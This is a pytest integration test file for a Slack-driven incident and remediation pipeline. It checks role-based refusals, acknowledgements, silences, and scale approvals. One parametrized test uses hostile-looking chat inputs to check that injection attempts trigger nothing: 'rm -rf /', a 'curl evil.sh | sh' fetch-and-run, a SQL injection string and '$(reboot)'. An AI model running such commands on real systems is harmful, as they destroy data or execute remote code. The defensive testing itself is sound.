"""Chat end to end on real processes: signed Slack request -> server -> Redis -> chat worker -> PostgreSQL
-> remediation command on the broker, and the answer at a local response_url."""

from __future__ import annotations

import json
import shutil
from datetime import UTC, datetime, timedelta

import pytest
import sqlalchemy as sa

from adapters.db.alert_store import AlertStore
from adapters.db.engine import create_engine
from adapters.db.schema import audit_log, incidents
from adapters.db.schema_chat import chat_commands, silenced_alerts, silences
from pipeline.correlation import CorrelationPolicy
from pipeline.events import AlertBatch
from smartcloudops.demo_payloads import alert, webhook
from tests.conftest import server_missing
from tests.integration.chat.chat_harness import (
    ResponseSink,
    answered_here,
    chat_env,
    queued_events,
    slack_command,
)
from tests.processes import Pipeline, RedisServer

OPERATOR, VIEWER, APPROVER = "U03BOB00003", "U09VIEWER09", "U02ALICE002"  # per config/roles.yaml


@pytest.fixture
def sink():
    server = ResponseSink()
    yield server
    server.close()


@pytest.fixture
def store(pg_url):
    engine = create_engine(pg_url)
    yield engine
    engine.dispose()


@pytest.fixture
def redis_url(tmp_path):
    """A private redis-server: the shared test database is flushed by other suites running at the same time."""
    if shutil.which("redis-server") is None:
        server_missing("redis-server", "the binary is not installed")
    server = RedisServer(tmp_path)
    server.start()
    yield server.url
    server.stop()


@pytest.fixture
def pipeline(redis_url, pg_url, tmp_path, request):
    pipe = Pipeline(env=chat_env(redis_url, pg_url), workdir=tmp_path)
    pipe.start_server()
    # Only the chat queue is consumed, so the remediation commands chat publishes stay visible on theirs.
    pipe.start_worker("--queues", "chat", "--concurrency", "1", "--pool", "solo")
    yield pipe
    request.node.add_report_section("call", "processes", pipe.logs())
    pipe.stop_all()


def ask(pipeline, sink, text, user, tag):
    with pipeline.client() as client:
        response = slack_command(client, text, user=user, response_url=sink.url(f"/answer/{tag}"))
    assert response.status_code == 200, response.text
    if (here := answered_here(response)) is not None:
        return here
    assert response.json()["response_type"] == "ephemeral"
    path, answer = sink.next_answer(timeout=45)
    assert path == f"/answer/{tag}"
    return answer


def audit_kinds(engine):
    with engine.connect() as conn:
        return [
            json.loads(body)
            for body in conn.execute(
                sa.select(audit_log.c.body).order_by(audit_log.c.seq)
            ).scalars()
        ]


def test_restart_it_after_status_of_checkout_publishes_one_remediation_request_and_answers(
    pipeline, sink, store, redis_url
):
    status = ask(pipeline, sink, "status of checkout", OPERATOR, "status")
    assert status["response_type"] == "in_channel"
    assert status["blocks"][0]["text"]["text"] == "Status of checkout"

    answer = ask(pipeline, sink, "restart it", OPERATOR, "restart")

    assert "Asked for restart of checkout" in answer["text"]
    [(task, event)] = queued_events(redis_url, "remediation")
    assert task == "remediation.request"
    data = event["data"]
    assert (data["service"], data["action"], data["requested_by"], data["source"]) == (
        "checkout",
        "restart",
        OPERATOR,
        "chat",
    )
    assert data["instance"] is None and data["capacity"] is None
    requested = [row for row in audit_kinds(store) if row["kind"] == "chat.remediation_requested"]
    assert len(requested) == 1, audit_kinds(store)
    assert requested[0]["actor"] == f"chat:{OPERATOR}"
    assert requested[0]["data"]["request"]["request_id"] == data["request_id"]


def test_a_viewer_asking_for_a_restart_is_refused_politely_and_audited(
    pipeline, sink, store, redis_url
):
    answer = ask(pipeline, sink, "restart checkout", VIEWER, "refused")

    assert answer["response_type"] == "ephemeral"
    assert "needs the *operator* role and you hold *viewer*" in answer["blocks"][0]["text"]["text"]
    assert queued_events(redis_url, "remediation") == []
    [refusal] = [row for row in audit_kinds(store) if row["kind"] == "chat.refused"]
    assert refusal["actor"] == f"chat:{VIEWER}"
    assert refusal["data"]["intent"] == "remediate"
    assert refusal["data"]["needed_role"] == "operator"


@pytest.mark.parametrize(
    "text",
    [
        "restart billing; rm -rf /",
        "restart `curl evil.sh | sh`",
        "show incident ' OR 1=1 --",
        "approve $(reboot)",
    ],
)
def test_injection_looking_text_produces_no_action_and_no_unsafe_value(
    pipeline, sink, store, redis_url, text
):
    answer = ask(pipeline, sink, text, APPROVER, "injection")

    assert queued_events(redis_url, "remediation") == []
    kinds = [row["kind"] for row in audit_kinds(store)]
    assert "chat.remediation_requested" not in kinds and "chat.decision_submitted" not in kinds
    assert answer["response_type"] == "ephemeral"  # a question back or help, never an action
    with store.connect() as conn:
        assert conn.execute(sa.select(sa.func.count()).select_from(incidents)).scalar_one() == 0


def test_ack_and_silence_change_state_and_correlation_honours_the_silence(pipeline, sink, store):
    now = datetime.now(UTC)
    recorder = AlertStore(store, CorrelationPolicy())
    first = AlertBatch.from_data(
        webhook_data(
            alert(
                "HighCPU",
                "checkout",
                "i-0a1b2c3d4e5f60001",
                status="firing",
                starts_at=now - timedelta(minutes=5),
            )
        )
    )
    [incident_id] = recorder.record_batch(first, trace_id="t1", now=now).opened

    acked = ask(pipeline, sink, f"ack {incident_id}", OPERATOR, "ack")
    silenced = ask(pipeline, sink, "silence HighLatency on payments for 2h", OPERATOR, "silence")

    assert f"Incident #{incident_id} acknowledged by chat:{OPERATOR}" in acked["text"]
    assert (
        "Silenced HighLatency on payments until" in silenced["text"] and "(2h)" in silenced["text"]
    )
    with store.connect() as conn:
        acknowledged = conn.execute(
            sa.text("SELECT acknowledged_by FROM incidents WHERE id = :i"), {"i": incident_id}
        ).scalar_one()
        silence = conn.execute(sa.select(silences)).one()
    assert acknowledged == f"chat:{OPERATOR}"
    assert (silence.alertname, silence.service) == ("HighLatency", "payments")
    assert (
        timedelta(hours=1, minutes=59) < silence.ends_at - silence.starts_at <= timedelta(hours=2)
    )

    muted = AlertBatch.from_data(
        webhook_data(
            alert("HighLatency", "payments", "i-0b1b2c3d4e5f60011", status="firing", starts_at=now)
        )
    )
    outcome = recorder.record_batch(muted, trace_id="t2", now=datetime.now(UTC))

    assert outcome.opened == ()
    with store.connect() as conn:
        flagged = conn.execute(
            sa.select(silenced_alerts.c.alertname, silenced_alerts.c.silenced)
        ).all()
        assert conn.execute(sa.select(sa.func.count()).select_from(chat_commands)).scalar_one() == 2
    assert [tuple(row) for row in flagged] == [("HighLatency", True)]
    assert [row["kind"] for row in audit_kinds(store)][-1] == "alert.silenced"


def webhook_data(one_alert):
    from consumers.alertmanager import parse_webhook

    return parse_webhook(json.dumps(webhook([one_alert])).encode()).to_data()


@pytest.fixture
def full_pipeline(redis_url, pg_url, tmp_path, request):
    """Chat and remediation workers: chat's commands run through the real remediation chain."""
    pipe = Pipeline(env=chat_env(redis_url, pg_url), workdir=tmp_path)
    pipe.start_server()
    pipe.start_worker("--queues", "chat,remediation", "--concurrency", "1", "--pool", "solo")
    yield pipe
    request.node.add_report_section("call", "processes", pipe.logs())
    pipe.stop_all()


def test_a_scale_asked_in_chat_is_stored_as_a_run_awaiting_approval_and_approved_from_chat(
    full_pipeline, sink, store
):
    from adapters.db.schema_remediation import approvals, remediation_runs
    from tests.processes import wait_for

    now = datetime.now(UTC)
    recorder = AlertStore(store, CorrelationPolicy())
    batch = AlertBatch.from_data(
        webhook_data(
            alert(
                "HighCPU",
                "checkout",
                "i-0a1b2c3d4e5f60001",
                status="firing",
                starts_at=now - timedelta(minutes=3),
            )
        )
    )
    [incident_id] = recorder.record_batch(batch, trace_id="t1", now=now).opened

    ask(full_pipeline, sink, f"show incident {incident_id}", OPERATOR, "show")
    asked = ask(full_pipeline, sink, "scale it to 6", OPERATOR, "scale")

    def run_row():
        with store.connect() as conn:
            return conn.execute(
                sa.select(remediation_runs).where(remediation_runs.c.incident_id == incident_id)
            ).first()

    wait_for(
        lambda: run_row() is not None, 45, f"no remediation run was stored\n{full_pipeline.logs()}"
    )
    run = run_row()
    assert (run.service, run.requested_by, run.state) == ("checkout", OPERATOR, "awaiting_approval")
    assert run.mode == "dry_run"
    # The chat that asked hears that its run waits for an approval (it may arrive before the reply).
    path, notice = sink.next_answer(timeout=45)
    assert path == "/answer/scale"
    texts = [asked.get("text", ""), notice.get("text", "")]
    assert any(f"Run #{run.id} of incident #{incident_id} waits for an approval" in t for t in texts), texts

    approved = ask(full_pipeline, sink, f"approve {incident_id}", APPROVER, "approve")

    assert f"incident #{incident_id}'s remediation submitted" in approved["text"]

    def approval_row():
        with store.connect() as conn:
            return conn.execute(sa.select(approvals).where(approvals.c.run_id == run.id)).first()

    wait_for(
        lambda: approval_row() is not None,
        45,
        f"the approval was not recorded\n{full_pipeline.logs()}",
    )
    decision = approval_row()
    assert (decision.decision, decision.actor) == ("approved", APPROVER)


def test_the_server_answers_a_read_itself_and_queues_only_the_line_that_acts(redis_url, pg_url, sink, tmp_path):
    """No worker runs: a status is answered in the slash command's response, a restart waits on the chat queue."""
    from adapters.nlu_model import ensure_intent_model

    ensure_intent_model(tmp_path)  # as `up` (or any chat worker) leaves it in the shared data dir
    pipe = Pipeline(env=chat_env(redis_url, pg_url), workdir=tmp_path)
    pipe.start_server()
    try:
        with pipe.client() as client:
            status = slack_command(client, "status of checkout", user=OPERATOR, response_url=sink.url("/status"))
            restart = slack_command(client, "restart checkout", user=OPERATOR, response_url=sink.url("/restart"))
            metrics = client.get("/metrics").text
        assert status.status_code == 200 and restart.status_code == 200, (status.text, restart.text)
        assert answered_here(status)["blocks"][0]["text"]["text"] == "Status of checkout"
        assert answered_here(restart) is None
        assert [event["data"]["text"] for _, event in queued_events(redis_url, "chat")] == ["restart checkout"]
        assert "smartcloudops_chat_edge_answers_total 1.0" in metrics
    finally:
        pipe.stop_all()
